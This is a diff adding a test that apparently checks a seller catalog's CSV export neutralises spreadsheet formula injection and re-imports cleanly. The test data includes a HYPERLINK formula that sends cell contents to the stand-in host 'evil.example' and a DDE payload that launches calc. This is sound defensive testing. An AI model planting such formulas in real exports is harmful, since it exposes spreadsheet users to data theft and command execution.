@@ -88,6 +88,32 @@ describe.each(backends())("seller catalog import on %s", (backend) => {
     expect(await exportProductsCsv(t.db, seller.storeId, {})).toBe(csv);
   });
 
+  it("exports formula-looking cells neutralised for spreadsheets, and imports its own export back unchanged", async () => {
+    const k = tag();
+    const titles = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\tTAB", "'=already quoted"];
+    const bytes = file(
+      ...titles.map((title, i) =>
+        row({ product_slug: `formula-${k}-${i}`, product_title: title, brand: "=cmd", description: "\r=CR", sku: `F-${k}-${i}`, price: "1.00", stock: "1" }),
+      ),
+    );
+    const dry = await dryRunImport(t.db, seller.storeId, bytes);
+    expect(dry.errors).toEqual([]);
+    await inTransaction(t.db, (tx) => applyImport(tx, seller, bytes, dry.token));
+    const csv = await exportProductsCsv(t.db, seller.storeId, { q: `F-${k}-` });
+    const cells = parseCsv(csv).flatMap((r) => r.fields);
+    expect(cells).toContain(`F-${k}-5`);
+    // No cell of the file starts with what a spreadsheet would run.
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(cells).toContain("'=cmd");
+    // The store's own export imports back with nothing to change, and the values are the seller's.
+    const again = await dryRunImport(t.db, seller.storeId, enc(csv));
+    expect(again.errors).toEqual([]);
+    expect(again.counts).toMatchObject({ create: 0, update: 0, unchanged: titles.length });
+    const stored = await t.db.product.findMany({ where: { slug: { startsWith: `formula-${k}-` } }, orderBy: { slug: "asc" }, select: { title: true, brand: true } });
+    expect(stored.map((p) => p.title)).toEqual(titles.map((x) => x.trim()));
+    expect(stored.every((p) => p.brand === "=cmd")).toBe(true);
+  });
+
   it("creates products and variants, with opening stock through the ledger and an audit entry", async () => {
     const k = tag();
     const bytes = file(
